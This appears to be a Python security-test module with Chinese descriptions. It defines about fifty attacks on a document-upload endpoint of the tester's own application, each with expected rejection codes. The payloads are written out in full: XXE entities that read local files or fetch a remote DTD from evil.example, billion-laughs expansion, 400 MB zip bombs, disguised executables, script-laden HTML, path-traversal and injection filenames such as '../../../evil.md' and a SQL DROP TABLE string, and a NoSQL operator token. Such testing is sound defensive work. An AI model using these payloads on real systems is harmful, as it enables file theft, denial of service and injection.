"""Files made to do harm: their names, what is in them, who sends them and how many."""

from __future__ import annotations

import io
import zipfile

from tests.attacks.holding import Attack
from tests.attacks.target import SECRET, Reply, Target

_PLACE = "/staff/api/upload"
_DOCX = "word/document.xml"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    ' Target="word/document.xml"/></Relationships>'
)


def _docx(document: str, **parts: str) -> bytes:
    return _zipped({"[Content_Types].xml": _TYPES, "_rels/.rels": _RELS, _DOCX: document} | parts)


def _zipped(parts: dict[str, str]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return made.getvalue()


def _entity(target: Target) -> Reply:
    assert target.own
    document = (
        f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file://{target.own}/secret.txt">]>'
        f"<w:document {_W}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
    )
    return target.upload(_PLACE, "entity.docx", _docx(document), "editor")


def _remote_entity(target: Target) -> Reply:
    document = (
        '<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://evil.example/x.dtd">'
        f"<w:document {_W}><w:body><w:p><w:r><w:t>正文</w:t></w:r></w:p></w:body></w:document>"
    )
    return target.upload(_PLACE, "remote.docx", _docx(document), "editor")


def _laughs(target: Target) -> Reply:
    grows = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    document = (
        f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a0 "哈哈">{grows}]>'
        f"<w:document {_W}><w:body><w:p><w:r><w:t>&a11;</w:t></w:r></w:p></w:body></w:document>"
    )
    return target.upload(_PLACE, "laughs.docx", _docx(document), "editor")


def _bomb(name: str, part: str) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr("_rels/.rels", _RELS)
        with archive.open(part, "w", force_zip64=True) as out:
            for _ in range(400):
                out.write(b" " * (1 << 20))
    return made.getvalue()


def _corner(target: Target) -> Reply:
    """A sheet whose one cell stands in the last corner: a million rows to walk through."""
    from openpyxl import Workbook

    book = Workbook()
    book.active["XFD1048576"] = "问题"
    book.active["A1"] = "问题"
    book.active["A2"] = "托位多少？"
    made = io.BytesIO()
    book.save(made)
    return target.send("POST", "/batch", made.getvalue())


def _name(number: int, name: str, statuses: tuple[int, ...] = (200, 400)) -> Attack:
    def attempt(target: Target) -> Reply | str:
        reply = target.upload(_PLACE, name, "# 标题\n\n正文一句。\n".encode(), "editor")
        return _stray(target) or reply

    return Attack(f"up-{number:02}", f"文件名 {name[:40]!r}", "写到别处，或成为页面的一部分", attempt, statuses,
                  ("<img", "<script"), own_only=True)  # fmt: skip


def _stray(target: Target) -> str:
    """What lies where no upload may write; '' where nothing does."""
    assert target.own
    known = {"docs", "guard", "tmp", "var", "secret.txt", "said.txt", "outside.txt"}
    strays = [p.name for p in target.own.iterdir() if p.name not in known]
    in_docs = [
        p.name for p in (target.own / "docs").iterdir() if p.suffix in (".py", ".html", ".exe")
    ]
    return "、".join((*strays, *in_docs))


def _sent(name: str, content: bytes, who: str = "editor"):  # type: ignore[no-untyped-def]
    return lambda target: target.upload(_PLACE, name, content, who)


def _too_many(target: Target) -> str:
    """Files that nobody takes in do not fill the disk."""
    for n in range(14):
        target.upload(_PLACE, f"many-{n}.md", f"# 标题{n}\n\n正文。\n".encode(), "editor")
    assert target.own
    kept = list((target.own / "var" / "incoming").glob("*/*"))
    return "" if len(kept) <= 10 else f"留下了 {len(kept)} 个"


def _html(target: Target) -> Reply:
    page = (
        "<html><head><title><script>window.hit=1</script>标题</title><base href=http://evil.example>"
        "<meta http-equiv=refresh content='0;url=http://evil.example'></head><body><h1><img src=x onerror=window.hit=1>"
        "第一章</h1><p>正文<script>window.hit=1</script></p><iframe src=http://evil.example></iframe></body></html>"
    )
    return target.upload(_PLACE, "page.html", page.encode(), "editor")


def _remote_picture(target: Target) -> Reply:
    return target.upload(
        _PLACE, "pictures.md", "# 图\n\n![a](http://evil.example/a.png)\n".encode(), "editor"
    )


ATTACKS = [
    Attack("up-01", "docx 引用外部实体（本机文件）", "读出文件内容", _entity, (200, 400), (SECRET,), own_only=True),
    Attack("up-02", "docx 引用外部实体（网址）", "去取它", _remote_entity, (200, 400), own_only=True),
    Attack("up-03", "docx 的实体成倍展开", "占满内存", _laughs, (200, 400), own_only=True),
    Attack("up-04", "docx 压缩炸弹（400 MB）", "占满内存", _sent("bomb.docx", _bomb("bomb.docx", _DOCX)), (400,), own_only=True),
    Attack("up-05", "批量提问的 xlsx 压缩炸弹", "占满内存",
           lambda t: t.send("POST", "/batch", _bomb("b.xlsx", "xl/worksheets/sheet1.xml")), (400,)),
    Attack("up-06", "xlsx 只在最末一格有字", "走遍一百万行", _corner, (400,)),
    Attack("up-07", "自称 docx 的可执行文件", "收下", _sent("a.docx", b"MZ\x90\x00" + b"\x00" * 200), (400,), own_only=True),
    Attack("up-08", "自称 pdf 的网页", "收下", _sent("a.pdf", b"<script>window.hit=1</script>"), (400,), own_only=True),
    Attack("up-09", "既是 pdf 又是 zip", "出错", _sent("poly.pdf", b"%PDF-1.4\n" + _zipped({"a.txt": "b"})), (200, 400), own_only=True),
    Attack("up-10", "带脚本的网页", "脚本进到预览", _html, (200, 400), ("<script", "<img", "<iframe", "<meta", "<base"), own_only=True),
    Attack("up-11", "文件里的外部图片", "服务器去取它", _remote_picture, (200, 400), ("<img",), own_only=True),
    Attack("up-12", "空文件", "出错", _sent("empty.md", b""), (200, 400), own_only=True),
    Attack("up-13", "全是 NUL", "出错", _sent("nul.txt", b"\x00" * 5000), (200, 400), own_only=True),
    Attack("up-14", "一行两百万字", "卡住", _sent("long.txt", "一".encode() * 600_000), (200, 400), own_only=True),
    Attack("up-15", "几万层的括号和编号", "卡住", _sent("deep.md", ("#" * 6 + " （一）" * 20 + "\n").encode() * 2000), (200, 400), own_only=True),
    Attack("up-16", "表格有一万列", "卡住", _sent("wide.csv", ("a," * 10_000 + "\n").encode() * 5), (200, 400), own_only=True),
    Attack("up-17", "查看角色上传", "收下", _sent("r.md", b"# a", "reader"), (403,), own_only=True),
    Attack("up-18", "质检角色上传", "收下", _sent("q.md", b"# a", "qa"), (403,), own_only=True),
    Attack("up-19", "上传很多而不收入", "占满磁盘", _too_many, own_only=True),
    Attack("up-20", "没有文件的表单", "出错", lambda t: t.send("POST", _PLACE, b"--x--", {"content-type": "multipart/form-data; boundary=x"}, "editor"), (400, 422), own_only=True),
    *(
        _name(n, name, (400,) if n < 46 else (200, 400))
        for n, name in enumerate(
            ("a.exe", "a.md.php", "a.py", "catalog.csv", ".htaccess", "a", "..", "a\x00.md", "~$a.docx", "a.svg", "a.md.",
             "a" * 300 + ".md", "con:.md", "<b>.md", "a|b.md", "a?.md", "../../../evil.md", "..\\..\\evil.md",
             "/etc/cron.d/evil.md", "%2e%2e%2fevil.md", "<img src=x onerror=window.hit=1>.md", "a\u202egnp.md",
             "'; DROP TABLE audit; --.md", "{{7*7}}.md", "a.md\t"), 30)
    ),
    Attack("up-60", "收入别人没有上传的编号", "收入", lambda t: t.json("/staff/api/take", {"token": "../../docs"}, "editor"), (400,), own_only=True),
    Attack("up-61", "放弃时编号是路径", "删掉别的文件夹", lambda t: t.json("/staff/api/drop", {"token": "../../.."}, "editor"), (200, 400), own_only=True),
    Attack("up-62", "移走文件夹外的文件", "移走", lambda t: t.json("/staff/api/remove", {"file": "../secret.txt"}, "editor"), (400,), own_only=True),
    Attack("up-63", "移走链接所指的文件", "移走", lambda t: t.json("/staff/api/remove", {"file": "linked/secret.txt"}, "editor"), (400,), own_only=True),
    Attack("up-64", "恢复时编号是路径", "写到别处", lambda t: t.json("/staff/api/restore", {"entry": "../../docs"}, "editor"), (400,), own_only=True),
    Attack("up-65", "编号不是文字", "出错", lambda t: t.json("/staff/api/take", {"token": {"$ne": 1}}, "editor"), (400, 422), own_only=True),
]  # fmt: skip
